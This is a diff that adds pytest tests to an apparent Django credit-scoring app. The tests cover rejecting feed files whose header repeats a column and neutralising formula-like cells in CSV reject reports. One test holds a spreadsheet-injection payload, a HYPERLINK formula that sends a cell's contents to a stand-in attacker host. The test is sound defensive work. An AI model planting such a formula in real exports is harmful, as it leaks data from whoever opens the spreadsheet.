@@ -269,3 +269,47 @@ def test_a_future_credit_record_gives_no_banker_sight_of_the_unit(tmp_path, rece
     batch = feed_import(source="credit", path=write(tmp_path, "credit", [future]))
     assert batch.rejected == 1 and not CreditRecord.objects.exists()
     assert not enterprise_list_for_user(banker).exists()
+
+
+# -- the header, and the report the department opens ---------------------------------------------------
+
+
+@pytest.mark.parametrize("extra", ["period", "PERIOD ", "remarks"])
+def test_a_column_named_twice_in_the_header_refuses_the_file(tmp_path, received, extra):
+    from scoring.services.feeds import FeedFileError
+
+    headers = [*SPECS["gst"].headers, extra] + (["remarks"] if extra == "remarks" else [])
+    rows = [[GSTIN_A, "2026-09", "1", "1", "", "2026-10"] + (["x"] if extra == "remarks" else [])]
+    with pytest.raises(FeedFileError, match="appears twice in the header"):
+        feed_import(source="gst", path=write(tmp_path, "gst", rows, headers))
+    batch = ImportBatch.objects.get()
+    assert batch.status == BatchStatus.FAILED and "appears twice in the header (columns" in batch.error
+    assert not GstReturn.objects.exists() and not FeedReject.objects.exists()
+
+
+def test_the_import_command_says_why_a_header_is_refused(tmp_path, received):
+    from django.core.management import CommandError, call_command
+
+    path = write(tmp_path, "gst", [], [*SPECS["gst"].headers, "gstin"])
+    with pytest.raises(CommandError, match="'gstin' appears twice in the header"):
+        call_command("import_feed", "gst", str(path))
+
+
+def test_reject_report_cells_that_look_like_formulas_are_written_as_text(tmp_path, received):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    rows = [
+        [formula, "2026-09", "1", "1", ""],
+        ["@SUM(1+1)", "2026-09", "1", "1", ""],
+        ["-2+3", "2026-09", "1", "1", ""],
+        ["\tTAB", "2026-09", "1", "1", ""],
+        [GSTIN_A, "+2026-09", "1", "1", ""],
+    ]
+    batch = feed_import(source="gst", path=write(tmp_path, "gst", rows))
+    assert batch.rejected == 5
+    with open(batch.reject_report, newline="", encoding="utf-8") as handle:
+        report = list(csv.DictReader(handle))
+    cells = [r["row"] for r in report]
+    assert cells[0].startswith("'=HYPERLINK(") and cells[1].startswith("'@") and cells[2].startswith("'-2+3")
+    assert cells[3].startswith("'\t") and cells[4].startswith(GSTIN_A)  # only the first character matters
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in report for cell in r.values())
+    assert FeedReject.objects.filter(raw__startswith="=HYPERLINK(").exists()  # the record keeps the row as sent
